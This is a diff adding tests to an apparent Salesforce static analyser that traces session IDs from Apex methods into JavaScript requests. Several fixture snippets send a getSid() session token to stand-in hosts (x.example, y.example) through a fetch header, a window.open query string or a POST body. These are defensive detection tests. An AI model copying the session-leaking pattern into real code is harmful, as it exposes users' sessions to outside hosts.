@@ -5,7 +5,7 @@ from __future__ import annotations
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from apexlint.ir import FileIR, SourceKind, UrlUse
+from apexlint.ir import FileIR, FileKind, SourceKind, UrlUse
 from apexlint.lower.javascript import lower_javascript
 from apexlint.read.decode import read_source
 
@@ -280,3 +280,65 @@ def test_rest_api_clients_take_the_session_to_their_proxy_instance_or_this_origi
     """)
     assert sink(ir, "jsforce.Connection").url == ""  # no instance URL: the page's own origin
     assert sink(ir, "forcetk.Client").url == "https://proxy.example.com/p"
+
+
+# -- what Apex hands to client code (stand-ins, resolved by apexlint.analyses.client) ----------
+def test_an_imported_apex_method_stands_in_for_what_it_returns() -> None:
+    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\n"
+               "async function go() { const sid = await getSid();\n"
+               "  fetch('https://x.example/i', { headers: { Authorization: 'Bearer ' + sid } }); }\n"
+               "getSid().then((t) => { window.open('https://y.example/?s=' + t); });\n",
+               "lwc/sender/sender.js")
+    assert [(u.sink, u.sources, u.in_query, u.header_or_body) for u in ir.url_uses] == [
+        ("fetch", ("client:apex:ctrl.getsid",), False, True),
+        ("window.open", ("client:apex:ctrl.getsid",), True, False),
+    ]
+    assert ir.sources == ()
+
+
+def test_each_stand_in_keeps_its_own_place_in_the_request() -> None:
+    """A base URL and a bearer token from two Apex methods: the URL's stand-in is in the query,
+    the token's in a header, so the token alone resolving to a session is no SID006."""
+    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\n"
+               "import getBase from '@salesforce/apex/Ctrl.getBase';\n"
+               "async function go() { const base = await getBase(); const sid = await getSid();\n"
+               "  fetch(base + '/x', { headers: { Authorization: 'Bearer ' + sid } }); }\n",
+               "lwc/sender/sender.js")
+    placed = {u.sources: (u.in_query, u.header_or_body) for u in ir.url_uses}
+    assert placed == {("client:apex:ctrl.getbase",): (True, False), ("client:apex:ctrl.getsid",): (False, True)}
+
+
+def test_remoting_callbacks_get_what_the_remote_action_returns() -> None:
+    ir = lower("Visualforce.remoting.Manager.invokeAction('ns.Ctrl.getSid', 1, function (result, event) {\n"
+               "  fetch('https://x.example/r', { method: 'POST', body: result }); }, { escape: true });\n")
+    assert [(u.sink, u.sources) for u in ir.url_uses] == [("fetch", ("client:remote:ns.ctrl.getsid",))]
+
+
+def test_a_script_that_sends_nothing_is_not_walked_for_what_apex_hands_it() -> None:
+    ir = lower("import getSid from '@salesforce/apex/Ctrl.getSid';\nexport const x = () => getSid();\n",
+               "lwc/sender/sender.js")
+    assert ir.url_uses == ()
+
+
+def test_every_fixture_request_mentions_a_word_of_the_sink_gate() -> None:
+    """`MAY_REQUEST` lists the words without which a script has no sink: every script of the
+    fixtures with a request the flow found says one of them."""
+    import pathlib
+
+    from apexlint.discover import discover
+    from apexlint.lower import MAY_REQUEST_BYTES
+    from apexlint.pipeline import lower_one
+    from apexlint.read.decode import ReadLimits
+    fixtures = pathlib.Path(__file__).parent.parent / "fixtures"
+    checked = 0
+    for project in sorted(fixtures.iterdir()):
+        for f in discover([project], root=project).files:
+            data = pathlib.Path(f.path).read_bytes()
+            _, lowered = lower_one(f, ReadLimits(), None, False, data, False)
+            for form in lowered.files:
+                if form.kind != FileKind.JAVASCRIPT:
+                    continue
+                for use in form.url_uses:
+                    checked += 1
+                    assert MAY_REQUEST_BYTES.search(data), (form.path, use.sink)
+    assert checked > 10
